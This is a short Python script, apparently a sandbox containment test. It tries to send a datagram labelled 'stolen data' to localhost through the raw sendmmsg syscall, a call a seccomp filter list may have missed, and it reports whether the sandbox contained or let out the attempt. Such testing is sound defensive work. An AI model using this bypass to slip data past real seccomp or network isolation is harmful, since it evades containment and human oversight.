# attack: sends datagrams to the host by sendmmsg(2), which a list of calls may have forgotten
# stopped-by: net-ns seccomp
# off: net-ns seccomp
import ctypes, errno, json, socket, struct, sys

F = json.loads(sys.argv[1]) if len(sys.argv) > 1 else {}


def contained(how):
    print("CONTAINED", how, flush=True)
    sys.exit(0)


def escaped(what):
    print("ESCAPED", what, flush=True)
    sys.exit(1)


libc = ctypes.CDLL(None, use_errno=True)
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
except OSError as e:
    contained(errno.errorcode.get(e.errno, str(e)))
text = ctypes.create_string_buffer(b"stolen data")
to = ctypes.create_string_buffer(
    struct.pack("=H", socket.AF_INET) + struct.pack("!H4s8x", F["udp4_port"], b"\x7f\0\0\1")
)
part = ctypes.create_string_buffer(struct.pack("@PN", ctypes.addressof(text), 11))
# struct mmsghdr: a msghdr, and how much of it was sent.
message = ctypes.create_string_buffer(
    struct.pack("@PI4xPNPNi4xI4x", ctypes.addressof(to), 16, ctypes.addressof(part), 1, 0, 0, 0, 0)
)
if libc.syscall(307, s.fileno(), message, 1, 0) != 1:
    contained(errno.errorcode.get(ctypes.get_errno(), "nothing was sent"))
escaped("sent a datagram to 127.0.0.1 by sendmmsg")
